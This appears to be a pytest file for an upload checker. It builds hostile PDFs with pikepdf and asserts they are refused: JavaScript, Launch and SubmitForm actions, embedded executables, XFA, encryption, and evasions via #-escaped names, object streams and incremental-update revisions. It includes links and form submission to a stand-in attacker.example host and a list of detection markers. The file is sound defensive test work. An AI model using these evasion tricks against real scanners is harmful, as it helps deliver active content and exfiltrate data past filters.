"""Hostile PDFs, built here with pikepdf, each refused by the upload check; clean PDFs still pass.

The corpus covers what a byte-string filter misses: escaped names (``/J#61vaScript``), objects packed in
compressed object streams, incremental updates (an active object added later, or one hidden in an earlier
revision), and each kind of active content: JavaScript, Launch, URI and SubmitForm actions, embedded
files, XFA forms and encryption."""

from __future__ import annotations

import io
import re

import pikepdf
import pytest
from kit.errors import Invalid, UnsupportedMedia
from kit.uploads import check_file_sync
from pikepdf import Array, Dictionary, Name, String


def _doc() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    content = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (evidence) Tj ET")
    pdf.pages[0].obj.Contents = content
    return pdf


def _save(pdf: pikepdf.Pdf, *, packed: bool = True, **kwargs) -> bytes:
    """Saved with object streams (packed: every dictionary sits inside a compressed stream) or plain."""
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, compress_streams=packed, **kwargs)
    return out.getvalue()


def _incremental(base: bytes, objects: dict[int, bytes], *, root: str) -> bytes:
    """Append an incremental update (classic xref section) replacing or adding ``objects``."""
    prev = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    size = int(re.findall(rb"/Size (\d+)", base)[-1]) if re.findall(rb"/Size (\d+)", base) else 0
    out = bytearray(base if base.endswith(b"\n") else base + b"\n")
    offsets = {}
    for num, body in sorted(objects.items()):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n"
    for num, at in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (num, at)
    size = max(size, max(objects) + 1)
    out += b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root.encode(),
        prev,
        xref_at,
    )
    return bytes(out)


def _js_action(pdf: pikepdf.Pdf) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert(1)"))


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action)
    )
    pdf.pages[0].obj.Annots = Array([annot])


def escaped_names_in_page_open_action() -> bytes:
    pdf = _doc()
    pdf.pages[0].obj.AA = Dictionary(O=_js_action(pdf))
    data = _save(pdf, packed=False)
    # Same file, names written with #-escapes as the PDF syntax allows (qpdf rebuilds the offsets).
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def javascript_link_in_object_stream() -> bytes:
    pdf = _doc()
    _link(pdf, _js_action(pdf))
    return _save(pdf)


def javascript_in_names_tree() -> bytes:
    pdf = _doc()
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), pdf.make_indirect(_js_action(pdf))]))
    )
    return _save(pdf)


def launch_action() -> bytes:
    pdf = _doc()
    _link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe")))
    return _save(pdf)


def uri_action() -> bytes:
    pdf = _doc()
    _link(pdf, Dictionary(S=Name.URI, URI=String("https://attacker.example/collect")))
    return _save(pdf)


def submit_form_field() -> bytes:
    pdf = _doc()
    field = pdf.make_indirect(
        Dictionary(
            FT=Name.Btn,
            T=String("send"),
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=Array([0, 0, 50, 20]),
            A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://attacker.example"))),
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return _save(pdf)


def xfa_form() -> bytes:
    pdf = _doc()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    return _save(pdf)


def embedded_file() -> bytes:
    pdf = _doc()
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ\x90\x00 not really", mime_type="application/x-msdownload"
    )
    return _save(pdf)


def file_attachment_annotation() -> bytes:
    pdf = _doc()
    spec = pikepdf.AttachedFileSpec(pdf, b"payload", filename="a.bin").obj
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=spec)
    )
    pdf.pages[0].obj.Annots = Array([annot])
    return _save(pdf)


def encrypted_no_user_password() -> bytes:
    return _save(_doc(), encryption=pikepdf.Encryption(owner="owner-secret", user=""))


def encrypted_with_user_password() -> bytes:
    return _save(_doc(), encryption=pikepdf.Encryption(owner="owner-secret", user="user-secret"))


def incremental_update_adds_escaped_action() -> bytes:
    data = _save(_doc(), packed=False)
    with pikepdf.open(io.BytesIO(data)) as reread:
        page = reread.pages[0].obj
        num, root = page.objgen[0], f"{reread.Root.objgen[0]} 0 R"
        body = page.unparse(resolved=True)
    hostile = body.rstrip()[:-2] + b" /AA << /O << /S /J#61vaScript /J#53 (app.alert(1)) >> >> >>"
    return _incremental(data, {num: hostile}, root=root)


def earlier_revision_hides_action() -> bytes:
    """The first revision carries the action inside an object stream; an update replaces the page with a
    clean one. The newest revision looks clean, and the raw bytes show nothing."""
    pdf = _doc()
    pdf.pages[0].obj.AA = Dictionary(O=_js_action(pdf))
    data = _save(pdf)
    with pikepdf.open(io.BytesIO(data)) as reread:
        page = reread.pages[0].obj
        num = page.objgen[0]
        del page["/AA"]
        clean = page.unparse(resolved=True)
        root = f"{reread.Root.objgen[0]} 0 R"
    # The update uses a classic xref: a reader that knows the earlier xref stream through /Prev.
    return _incremental(data, {num: clean}, root=root)


HOSTILE = [
    escaped_names_in_page_open_action,
    javascript_link_in_object_stream,
    javascript_in_names_tree,
    launch_action,
    uri_action,
    submit_form_field,
    xfa_form,
    embedded_file,
    file_attachment_annotation,
    incremental_update_adds_escaped_action,
    earlier_revision_hides_action,
]


@pytest.mark.parametrize("build", HOSTILE, ids=lambda f: f.__name__)
def test_hostile_pdf_is_refused(build) -> None:
    data = build()
    assert data.startswith(b"%PDF-")
    with pytest.raises(UnsupportedMedia) as e:
        check_file_sync(data, {"pdf"}, what="证明资料")
    assert e.value.code == "pdf_active_content"
    assert "证明资料" in e.value.message


@pytest.mark.parametrize(
    "build", [encrypted_no_user_password, encrypted_with_user_password], ids=lambda f: f.__name__
)
def test_encrypted_pdf_is_refused(build) -> None:
    with pytest.raises(UnsupportedMedia) as e:
        check_file_sync(build(), {"pdf"})
    assert e.value.code == "pdf_encrypted"


def test_corpus_escapes_a_byte_filter() -> None:
    """The corpus is hostile in the way that matters: most of it shows no telltale bytes at all."""
    markers = (b"/JavaScript", b"/JS ", b"/Launch", b"/EmbeddedFile", b"/XFA", b"/URI", b"/SubmitForm")
    hidden = [b.__name__ for b in HOSTILE if not any(m in b() for m in markers)]
    assert len(hidden) >= 8, hidden


def test_clean_pdfs_pass() -> None:
    pdf = _doc()
    # An internal link (GoTo) and page labels are ordinary content.
    _link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
    for data in (_save(pdf), _save(pdf, packed=False)):
        checked = check_file_sync(data, {"pdf"})
        assert checked.kind == "pdf" and checked.data == data
    # An incremental update that adds nothing hostile is fine too.
    plain = _save(_doc(), packed=False)
    with pikepdf.open(io.BytesIO(plain)) as reread:
        page = reread.pages[0].obj
        updated = _incremental(
            plain, {page.objgen[0]: page.unparse(resolved=True)}, root=f"{reread.Root.objgen[0]} 0 R"
        )
    assert check_file_sync(updated, {"pdf"}).kind == "pdf"


def test_broken_pdf_is_corrupt_not_500() -> None:
    with pytest.raises(Invalid) as e:
        check_file_sync(b"%PDF-1.7\n" + b"\x00garbage" * 50 + b"\n%%EOF\n", {"pdf"})
    assert e.value.code in ("pdf_corrupt", "pdf_empty")
